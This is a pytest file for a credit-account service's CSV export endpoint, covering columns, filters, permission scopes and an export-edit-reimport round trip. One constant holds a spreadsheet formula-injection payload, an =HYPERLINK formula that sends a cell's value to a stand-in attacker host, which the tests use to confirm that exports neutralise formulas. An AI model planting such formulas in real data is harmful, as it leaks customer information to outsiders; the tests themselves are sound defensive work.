"""`GET /accounts/export.csv`: the template's columns plus dates, filters, formula safety, and the
round trip that the export exists for: export, edit in a spreadsheet, import back in UPDATE mode."""

from __future__ import annotations

import csv
import io

import pytest
import pytest_asyncio

from customer_credit.http.rest.export import export_csv
from customer_credit.persistence.accounts import AccountQuery
from tests.support.accounts import account_with_history, close_account, open_account
from tests.support.csv_files import csv_file
from tests.support.documents import ALPHANUMERIC_CNPJ, CNPJ, CPF
from tests.support.imports import import_and_wait

EXPORT_URL = "/accounts/export.csv"
EXPORT_HEADER = [
    "Id",
    "Email",
    "Document",
    "Document Type",
    "Credit Limit",
    "Tolerance",
    "Status",
    "Description",
    "Created At",
    "Updated At",
]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'

# Opened through GraphQL, in this order.
ACCOUNTS = [
    {
        "id": "exp-1",
        "email": "ana@example.com",
        "documentType": "CPF",
        "document": CPF,
        "creditLimit": "1500.00",
        "tolerance": "0.05",
        "description": "First customer",
    },
    {
        "id": "exp-2",
        "email": "Bruno.Lima@Example.com",
        "documentType": "CNPJ",
        "document": CNPJ,
        "creditLimit": "0",
        "tolerance": "0.0525",
        "description": 'Quotes " and, commas\nand a second line',
    },
    {
        "id": "exp-3",
        "email": "carla@example.com",
        "documentType": "CNPJ",
        "document": ALPHANUMERIC_CNPJ,
        "creditLimit": "1000000000.00",
        "tolerance": "1",
    },
    {
        "id": "exp-4",
        "email": "davi@example.com",
        "documentType": "OTHER",
        "document": "PASS-0042",
        "description": "Crédito 🚀 日本語",
    },
    {"id": "exp-5", "email": "eva@example.com"},
]


def rows_of(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def by_id(text: str) -> dict[str, dict[str, str]]:
    header, *rows = rows_of(text)
    return {row[0]: dict(zip(header, row)) for row in rows}


async def export(client, **params) -> str:
    response = await client.get(EXPORT_URL, params=params)
    assert response.status_code == 200, response.text
    return response.content.decode("utf-8")


@pytest_asyncio.fixture
async def accounts(client) -> list[dict]:
    return [await open_account(client, **account) for account in ACCOUNTS]


# --- the file ---------------------------------------------------------------------------------


async def test_export_is_a_csv_download_with_the_template_columns_plus_dates(client, accounts):
    response = await client.get(EXPORT_URL)

    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"].startswith("attachment;")
    assert rows_of(response.content.decode("utf-8"))[0] == EXPORT_HEADER


async def test_export_of_an_empty_store_is_the_header_alone(client):
    assert rows_of(await export(client)) == [EXPORT_HEADER]


async def test_export_lists_every_account_oldest_first(client, accounts):
    assert list(by_id(await export(client))) == [a["id"] for a in ACCOUNTS]


async def test_export_writes_values_the_way_the_importer_reads_them(client, accounts):
    rows = by_id(await export(client))

    assert rows["exp-1"] | {"Created At": "", "Updated At": ""} == {
        "Id": "exp-1",
        "Email": "ana@example.com",
        "Document": "529.982.247-25",
        "Document Type": "CPF",
        "Credit Limit": "1500.00",
        "Tolerance": "0.05",
        "Status": "Open",
        "Description": "First customer",
        "Created At": "",
        "Updated At": "",
    }
    assert (rows["exp-2"]["Email"], rows["exp-2"]["Credit Limit"], rows["exp-2"]["Tolerance"]) == (
        "Bruno.Lima@example.com",
        "0.00",
        "0.0525",
    )
    assert (rows["exp-3"]["Document"], rows["exp-3"]["Credit Limit"], rows["exp-3"]["Tolerance"]) == (
        "12.ABC.345/01DE-35",
        "1000000000.00",
        "1.00",
    )
    assert (rows["exp-4"]["Document"], rows["exp-4"]["Document Type"]) == ("PASS0042", "Other")
    assert (rows["exp-5"]["Document"], rows["exp-5"]["Document Type"], rows["exp-5"]["Description"]) == ("", "", "")


async def test_export_keeps_quotes_commas_line_breaks_and_unicode(client, accounts):
    rows = by_id(await export(client))

    assert rows["exp-2"]["Description"] == ACCOUNTS[1]["description"]
    assert rows["exp-4"]["Description"] == "Crédito 🚀 日本語"


async def test_export_dates_are_the_accounts_timestamps(client, accounts):
    rows = by_id(await export(client))

    assert rows["exp-1"]["Created At"].endswith("Z")
    assert rows["exp-1"]["Created At"][:19] == accounts[0]["createdAt"][:19]


async def test_export_writes_closed_accounts_as_closed(client, accounts):
    await close_account(client, "exp-5")

    assert by_id(await export(client))["exp-5"]["Status"] == "Closed"


async def test_export_neutralises_a_formula_in_a_description(client):
    await open_account(client, id="evil", email="mallory@example.com", description=HYPERLINK)

    text = await export(client)

    assert by_id(text)["evil"]["Description"] == "'" + HYPERLINK
    assert ',"=HYPERLINK' not in text and ",=HYPERLINK" not in text


async def test_export_neutralises_formula_prefixes_in_ids_and_emails(client):
    await open_account(client, id="-12", email="+tag@example.com")

    row = by_id(await export(client))["'-12"]

    assert row["Email"] == "'+tag@example.com"


async def test_export_walks_the_accounts_in_keyset_pages_one_chunk_each(app, accounts):
    repository = app.state.services.accounts

    chunks = [
        chunk async for chunk in export_csv(repository, AccountQuery(order_field="CREATED_AT", descending=False), 2)
    ]

    assert len(chunks) == 1 + 3  # the header, then pages of 2, 2 and 1
    assert list(by_id(b"".join(chunks).decode("utf-8"))) == [a["id"] for a in ACCOUNTS]


# --- filters ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"search": "exp-"}, ["exp-1", "exp-2", "exp-3", "exp-4", "exp-5"]),
        ({"search": "BRUNO"}, ["exp-2"]),
        ({"search": "5299"}, ["exp-1"]),
        ({"email": "CARLA@example.com"}, ["exp-3"]),
        ({"document": "11222333000181"}, ["exp-2"]),
        ({"document": CNPJ}, ["exp-2"]),
        ({"documentType": "CNPJ"}, ["exp-2", "exp-3"]),
        ({"documentType": "OTHER"}, ["exp-4"]),
        ({"documentType": "Other"}, ["exp-4"]),
        ({"status": "CLOSED"}, ["exp-5"]),
        ({"status": "Open"}, ["exp-1", "exp-2", "exp-3", "exp-4"]),
        ({"documentType": "CNPJ", "search": "carla"}, ["exp-3"]),
        ({"email": ""}, ["exp-1", "exp-2", "exp-3", "exp-4", "exp-5"]),
    ],
)
async def test_export_filters_by_the_account_filter_fields(client, accounts, params, expected):
    await close_account(client, "exp-5")

    assert list(by_id(await export(client, **params))) == expected


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"status": "open"}, ["exp-1", "exp-2", "exp-3", "exp-4"]),
        ({"status": "cLoSeD"}, ["exp-5"]),
        ({"documentType": "cnpj"}, ["exp-2", "exp-3"]),
        ({"documentType": "other"}, ["exp-4"]),
    ],
)
async def test_export_filter_values_take_any_case(client, accounts, params, expected):
    await close_account(client, "exp-5")

    assert list(by_id(await export(client, **params))) == expected


@pytest.mark.parametrize(("name", "value"), [("status", "Aberta"), ("status", ""), ("documentType", "RG")])
async def test_export_with_an_unknown_filter_value_is_400(client, name, value):
    response = await client.get(EXPORT_URL, params={name: value})

    assert response.status_code == 400
    assert (response.json()["code"], response.json()["field"]) == ("INVALID_PARAMETER", name)


# --- scopes -----------------------------------------------------------------------------------


async def test_export_without_pii_read_is_403_rather_than_a_masked_file(client_with):
    reader = await client_with("accounts:read")

    response = await reader.get(EXPORT_URL)

    assert response.status_code == 403
    assert response.json()["code"] == "FORBIDDEN"
    assert "pii:read" in response.json()["message"]


async def test_export_without_accounts_read_is_403(client_with):
    reader = await client_with("pii:read", "imports:read")

    response = await reader.get(EXPORT_URL)

    assert response.status_code == 403


# --- the round trip ---------------------------------------------------------------------------


async def test_edited_export_imported_in_update_mode_changes_exactly_the_edited_accounts(client, worker, accounts):
    header, *rows = rows_of(await export(client))
    column = {name: index for index, name in enumerate(header)}
    rows[0][column["Credit Limit"]] = "2500.50"
    rows[3][column["Description"]] = "Edited in a spreadsheet"
    versions = {a["id"]: a["version"] for a in accounts}

    run = await import_and_wait(client, csv_file(rows, header), "UPDATE", filename="export.csv")

    assert (run["status"], run["updatedCount"], run["unchangedCount"], run["failedCount"], run["createdCount"]) == (
        "SUCCEEDED",
        2,
        len(ACCOUNTS) - 2,
        0,
        0,
    )
    first, fourth = await account_with_history(client, "exp-1"), await account_with_history(client, "exp-4")
    assert first["creditLimit"] == "2500.50"
    assert fourth["description"] == "Edited in a spreadsheet"
    for account, field, before, after in (
        (first, "creditLimit", "1500.00", "2500.50"),
        (fourth, "description", "Crédito 🚀 日本語", "Edited in a spreadsheet"),
    ):
        latest = account["history"]["nodes"][0]
        assert (latest["source"], latest["importRunId"]) == ("IMPORT", run["id"])
        assert latest["changes"] == [{"field": field, "from": before, "to": after}]
    for account_id in ("exp-2", "exp-3", "exp-5"):
        assert (await account_with_history(client, account_id))["version"] == versions[account_id]


async def test_unchanged_export_imported_in_update_mode_leaves_every_row_unchanged(client, worker, accounts):
    content = (await client.get(EXPORT_URL)).content

    run = await import_and_wait(client, content, "UPDATE", filename="export.csv")

    assert (run["status"], run["totalRows"], run["unchangedCount"], run["updatedCount"], run["failedCount"]) == (
        "SUCCEEDED",
        len(ACCOUNTS),
        len(ACCOUNTS),
        0,
        0,
    )


async def test_formula_like_description_survives_an_unchanged_round_trip(client, worker):
    await open_account(client, id="evil", email="mallory@example.com", description=HYPERLINK)

    run = await import_and_wait(client, (await client.get(EXPORT_URL)).content, "UPDATE", filename="export.csv")

    assert (run["unchangedCount"], run["updatedCount"]) == (1, 0)


async def test_closed_account_in_an_unchanged_export_imports_as_unchanged(client, worker, accounts):
    await close_account(client, "exp-5")

    run = await import_and_wait(client, (await client.get(EXPORT_URL)).content, "UPDATE", filename="export.csv")

    assert (run["unchangedCount"], run["failedCount"]) == (len(ACCOUNTS), 0)
